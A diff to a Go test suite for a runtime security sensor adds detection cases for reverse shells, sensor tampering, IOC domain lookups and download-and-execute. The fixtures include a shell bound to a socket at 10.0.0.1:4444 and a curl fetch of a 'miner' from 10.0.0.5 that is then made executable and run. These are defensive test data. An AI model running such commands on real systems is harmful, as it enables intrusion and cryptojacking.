@@ -140,6 +140,17 @@ func TestDetectionsReplay(t *testing.T) {
 		{"db-spawns-shell", []*api.Event{execEv(sh, []string{"sh", "-c", "id"}, parents("/usr/lib/postgresql/15/bin/postgres"), ctr)}, "db-spawns-shell", nil},
 		{"no db-spawns-shell: psql from shell", []*api.Event{execEv("/usr/bin/psql", []string{"psql"}, parents("/bin/bash"))}, "", []string{"db-spawns-shell"}},
 
+		{"reverse-shell: shell on a socket", []*api.Event{stdioExec(sh, "10.0.0.1", 4444, ctr)}, "reverse-shell", nil},
+		{"sensor-tamper: kill harrier", []*api.Event{signalEv("/bin/kill", 15)}, "sensor-tamper", nil},
+		{"no sensor-tamper: systemd stops harrier", []*api.Event{signalEv("/lib/systemd/systemd", 15, pid(1))}, "", []string{"sensor-tamper"}},
+		{"ioc-domain: test domain", []*api.Event{dnsEv("/usr/bin/curl", IOCTestDomain, ctr)}, "ioc-domain", nil},
+		{"ioc-domain: subdomain", []*api.Event{dnsEv("/usr/bin/curl", "a.b."+IOCTestDomain, ctr)}, "ioc-domain", nil},
+		{"no ioc-domain", []*api.Event{dnsEv("/usr/bin/curl", "example.org", ctr)}, "", []string{"ioc-domain"}},
+		{"download-exec with chmod", []*api.Event{
+			execEv("/usr/bin/curl", []string{"curl", "-O", "http://10.0.0.5/dl/miner"}, ctr, cwd("/tmp")),
+			chmodEv(sh, "/tmp/miner", 0o755, ctr),
+			execEv("/tmp/miner", []string{"./miner"}, ctr, cwd("/tmp")),
+		}, "download-exec", nil},
 		{"test-alert", []*api.Event{execEv(sh, []string{"sh", "-c", "echo HARRIER-TEST-ALERT"})}, "test-alert", nil},
 		{"no test-alert", []*api.Event{execEv(sh, []string{"sh", "-c", "echo hello"})}, "", []string{"test-alert"}},
 	}
@@ -225,5 +236,29 @@ func moduleEv(opts ...evOpt) *api.Event {
 func ptraceEv(exe string, req int64, opts ...evOpt) *api.Event {
 	e := base(api.EventKind_EVENT_KIND_PTRACE, exe, []string{exe}, opts)
 	e.Detail = &api.Event_Ptrace{Ptrace: &api.Ptrace{Request: req, TargetPid: 1}}
+	return e
+}
+
+func stdioExec(exe, ip string, port uint32, opts ...evOpt) *api.Event {
+	e := execEv(exe, []string{baseName(exe)}, opts...)
+	e.GetExec().StdioSockets = []*api.StdioSocket{{Fd: 0, Family: "ipv4", Remote: &api.SocketAddress{Family: "ipv4", Ip: ip, Port: port}}}
+	return e
+}
+
+func signalEv(exe string, sig int32, opts ...evOpt) *api.Event {
+	e := base(api.EventKind_EVENT_KIND_SIGNAL, exe, []string{baseName(exe), "-15", "999"}, opts)
+	e.Detail = &api.Event_Signal{Signal: &api.Signal{TargetPid: 999, Signal: sig}}
+	return e
+}
+
+func dnsEv(exe, name string, opts ...evOpt) *api.Event {
+	e := base(api.EventKind_EVENT_KIND_DNS_QUERY, exe, []string{baseName(exe)}, opts)
+	e.Detail = &api.Event_DnsQuery{DnsQuery: &api.DnsQuery{Name: name, Qtype: 1, Server: &api.SocketAddress{Family: "ipv4", Ip: "10.0.0.53", Port: 53}}}
+	return e
+}
+
+func chmodEv(exe, path string, mode uint32, opts ...evOpt) *api.Event {
+	e := base(api.EventKind_EVENT_KIND_CHMOD, exe, []string{"chmod", "+x", path}, opts)
+	e.Detail = &api.Event_Chmod{Chmod: &api.Chmod{Path: path, Mode: mode}}
 	return e
 }
